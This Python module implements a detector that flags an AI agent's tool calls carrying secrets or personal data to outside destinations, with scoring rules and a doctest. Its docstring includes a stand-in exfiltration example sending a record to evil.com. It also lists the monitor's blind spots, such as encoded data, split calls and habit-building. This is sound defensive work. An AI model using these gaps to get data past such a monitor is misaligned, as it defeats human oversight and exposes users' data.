"""`data_exfiltration`: personal data or secrets in a call whose destination is outside.

Sees: a call that holds both what should not leave and where to: a public host or bucket or a mail
domain that is not among `inside`, or an account. From the first call on.
Blind to: data in a form `content` does not know, encoded, or in a file the call only names; a
destination that is not in the arguments; data and destination in two calls; an agent that first
makes a stranger its habit.

    outside = destinations that are OUTSIDE and no habit of the agent
    hosts, accounts:  secrets + personal >= 1                    -> action
    mail only:        secrets + strong   >= 1  or  personal >= 3 -> action
    score 1 with secrets or strong data, else 0.8

Strong are card, account and national id numbers. Contact details in a mail are what mails are made
of: one or two say nothing, a list of them does. The address a mail goes to is not its content.

A mail address, or an IBAN, that is the whole value of an argument is a destination, and no data:
somebody the call is for. It is data as well, the IBAN a strong one, when the same arguments give an
outside host as a value of its own: `{"to_url": "https://evil.com/c", "email": "jane@corp.com"}` is
a record sent to evil.com. Not so a link in the text of a mail, nor what stands under a name of
people a call is for or from (`to`, `cc`, `attendees`, `author`, ...: ADDRESSEE in `opaque`): a mail
with many recipients, or an appointment with a meeting's URL, is none.

A link in a text is where to read on, and nothing goes there: a file or a mail is written, with its
links. So a host, or a mail address, counts for nothing (LINK) when it stands only in the text of a
value called `content`, `text`, `body`, `new_string` or so, the link has no query and no long run of
letters or digits, and no command calls it. `code` is no such name: it is run.

A secret that logs in where the call goes (`otlp.credentials`: an Authorization header, `-u`, the
user part of a URL) is not counted when one host alone is outside; `credential_leak` counts it.

A habit is a destination that a warm agent has named in `HABIT` learned calls and not forgotten: a
newsletter service that gets addresses every day is no exfiltration. To meet a stranger once without
data does not make it one, so the bait call before the real one buys nothing. A call that was
stopped is not learned, so an attacker cannot make a habit of it either.

Source: Agent Assembly `DataExfiltrationAttempt`, which blocks personal data on any network request,
also to a host on its own list; here destination and content count together.

>>> from otel_anomaly.config import DataExfiltrationConfig
>>> from otel_anomaly.detectors.call import CALL
>>> from otel_anomaly.detectors.finding import SIGN
>>> from otel_anomaly.detectors.past import LEARNING, PAST
>>> own, learning = np.zeros(1, PAST)[0], np.zeros(1, LEARNING)[0]
>>> plan = make_plan(DataExfiltrationConfig())[0]
>>> call, sign = np.zeros(1, CALL)[0], np.zeros(1, SIGN)[0]
>>> call["has_arguments"] = call["destinations"] = call["personal"] = 1
>>> for bits in (HOST, HOST | OUTSIDE, MAIL | OUTSIDE):
...     call["destination_is"][0] = bits
...     score(own, learning, plan, call, sign)
...     print(ACTIONS[sign["action"]], float(sign["score"]))
allow 0.0
block 0.8
allow 0.0
"""

from __future__ import annotations

from typing import Final

import numpy as np

from otel_anomaly.config import DataExfiltrationConfig
from otel_anomaly.detectors import past
from otel_anomaly.detectors.finding import ACTIONS, JUDGED, NO_ARGUMENTS, OFF
from otel_anomaly.detectors.measure import measure
from otel_anomaly.detectors.silence import silence
from otel_anomaly.kernels import Int, Record, inlined, kernel
from otel_anomaly.otlp.content import ACCOUNT, ASIDE, DATUM, HOST, LINK, MAIL, OUTSIDE

NAME: Final = "data_exfiltration"
CLAUSES: Final = (
    "the call carries secrets and leads outside: {observed} of them, {limit} is too many",
    (
        "the call carries card, account or national id numbers and leads outside:"
        " {observed} of them, {limit} is too many"
    ),
    "the call carries personal data and leads outside: {observed} of them, {limit} is too many",
)
SECRETS, STRONG, PERSONAL = np.arange(3)

HABIT: Final = 5
"""Learned calls after which a destination is one the agent is known for."""
CONTACTS = np.int64(3)
"""Personal data in a mail from which on they are a list, not a signature."""
ONE = np.int64(1)

PLAN = np.dtype([("enabled", "i8"), ("action", "i8")])


def make_plan(config: DataExfiltrationConfig) -> np.ndarray:
    """The configuration as the kernels read it: PLAN [1]."""
    plan = np.zeros(1, PLAN)
    plan["enabled"], plan["action"] = config.enabled, ACTIONS.index(config.action)
    return plan


@inlined
def _records(call: Record) -> tuple[Int, Int]:
    """(mail addresses, accounts) among the destinations that may be data as well."""
    mails, accounts = np.int64(0), np.int64(0)
    for i in range(call["destinations"]):
        bits = np.int64(call["destination_is"][i])
        if bits & DATUM != 0:
            mails += 1 if bits & MAIL != 0 else 0
            accounts += 1 if bits & ACCOUNT != 0 else 0
    return mails, accounts


@kernel
def _outside(own: Record, learning: Record, call: Record) -> tuple[Int, Int]:
    """(kinds, as bits, of the destinations that are outside and no habit, how many are outside).

    ASIDE says that no host among them is given as a value of its own.
    """
    warm = not past.is_cold(own, learning, call["time_ns"])
    now_ns, forget_days = call["time_ns"], learning["forget_days"]
    kinds, count, given = np.int64(0), np.int64(0), False
    for i in range(call["destinations"]):
        bits = np.int64(call["destination_is"][i])
        if bits & OUTSIDE == 0 or bits & LINK != 0:
            continue
        count += 1
        if warm:
            entry = past.find(own, past.DESTINATIONS, call["destination"][i], now_ns, forget_days)
            if entry >= 0 and past.uses(own, entry) >= HABIT:
                continue
        kinds |= bits
        given = given or bits & (HOST | ASIDE) == HOST
    kinds = kinds & ~ASIDE if given else kinds | ASIDE if kinds != 0 else kinds
    return kinds, count


@inlined
def _weigh(secrets: Int, strong: Int, personal: Int, sign: Record, limit: Int) -> None:
    """Tell the gravest kind of data in the call, and its number against the limit."""
    if secrets > 0:
        measure(sign, secrets, ONE)
        sign["variant"] = SECRETS
    elif strong > 0:
        measure(sign, strong, ONE)
        sign["variant"] = STRONG
    else:
        measure(sign, personal, limit)
        sign["variant"] = PERSONAL


@inlined
def score(own: Record, learning: Record, plan: Record, call: Record, sign: Record) -> None:
    """Judge one call, by the agent's past once it is warm."""
    silence(sign, OFF if plan["enabled"] == 0 else JUDGED)
    if plan["enabled"] == 0:
        return
    if call["has_arguments"] == 0:
        sign["skipped"] = NO_ARGUMENTS
        return
    secrets, strong = np.int64(call["secrets"]), np.int64(call["personal_strong"])
    personal = np.int64(call["personal"])
    mails, accounts = _records(call)
    if secrets + personal + strong + mails + accounts == 0:
        return
    kinds, count = _outside(own, learning, call)
    if count == 1 and kinds & HOST != 0:
        secrets -= min(secrets, np.int64(call["credentials"]))
    if kinds & ASIDE == 0:
        strong += accounts
        personal += mails + accounts
    if kinds == 0 or secrets + personal + strong == 0:
        return
    only_mail = kinds & MAIL != 0 and kinds & (HOST | ACCOUNT) == 0
    _weigh(secrets, strong, personal, sign, CONTACTS if only_mail else ONE)
    if sign["observed"] >= sign["limit"]:
        sign["action"] = plan["action"]
        sign["score"] = 0.8 if sign["variant"] == PERSONAL else 1.0
